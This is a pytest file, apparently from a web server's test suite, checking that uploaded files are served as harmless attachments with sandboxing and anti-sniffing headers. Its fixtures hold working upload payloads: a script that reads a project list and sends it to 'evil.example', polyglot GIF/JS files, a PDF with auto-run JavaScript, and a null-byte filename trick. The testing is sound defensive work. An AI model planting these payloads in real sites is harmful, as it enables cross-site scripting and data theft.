"""EXAM 19: files that people upload are bytes to a browser: it is told so, and nothing in them reaches a reader."""

from __future__ import annotations

import hashlib

import pytest

from server.run_logs import write_run
from server.team import OURS, Team, team

SCRIPT = b"<script>fetch('/api/1/projects').then(r=>r.text()).then(t=>fetch('https://evil.example/'+t))</script>"
FILES = {
    "saved/page.png": b"<!doctype html>" + SCRIPT,
    "saved/page.html": b"<!doctype html>" + SCRIPT,
    "saved/drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    "saved/polyglot.gif": b"GIF89a/*" + SCRIPT + b"*/=1;",
    "saved/polyglot.js": b"GIF89a=1;alert(1)//",
    "saved/table.csv": b"a,b\n" + SCRIPT,
    "saved/paper.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "saved/feed.xml": b'<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</x>",
    "saved/worker.mjs": b"self.addEventListener('fetch', () => {})",
    "saved/jpeg that is a page.jpg": b"\xff\xd8\xff\xe0" + SCRIPT,
}
HARMLESS = {"image/gif", "image/jpeg", "application/octet-stream"}


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    folder = tmp_path_factory.mktemp("team")
    write_run(folder, "uploads", files=FILES, entity=OURS[0], project=OURS[1])
    with team(folder) as made:
        yield made


@pytest.mark.parametrize("path", FILES)
@pytest.mark.parametrize("asked_as", ["", "?name=page.html", "?name=x.svg", "?name=a.html%00.png"])
def test_a_raw_link_is_a_download_that_can_run_nothing(world: Team, path: str, asked_as: str):
    run = next(
        run["run_key"]
        for run in world.browser("vera")
        .call("POST", "/runs/query", {"entity": OURS[0], "project": OURS[1]})
        .json["runs"]
        if run["run_id"] == "uploads"
    )
    sha256 = hashlib.sha256(FILES[path]).hexdigest()
    navigation = {"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document", "Accept": "text/html"}
    for headers in ({}, navigation):
        reply = world.browser("vera").call("GET", f"/runs/{run}/blobs/{sha256}{asked_as}", **headers)

        assert reply.status == 200
        assert reply.body == FILES[path]
        assert reply.headers["content-type"] in HARMLESS
        assert reply.headers["content-disposition"].startswith("attachment")
        assert reply.headers["content-security-policy"] == "sandbox; default-src 'none'"
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert reply.headers["cross-origin-resource-policy"] == "same-origin"


def test_a_page_of_another_site_cannot_embed_a_file(world: Team):
    sha256 = hashlib.sha256(FILES["saved/polyglot.js"]).hexdigest()
    for destination in ("script", "image", "iframe", "serviceworker"):
        headers = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": destination}
        assert world.browser("vera").call("GET", f"/runs/{world.run}/blobs/{sha256}", **headers).status == 403
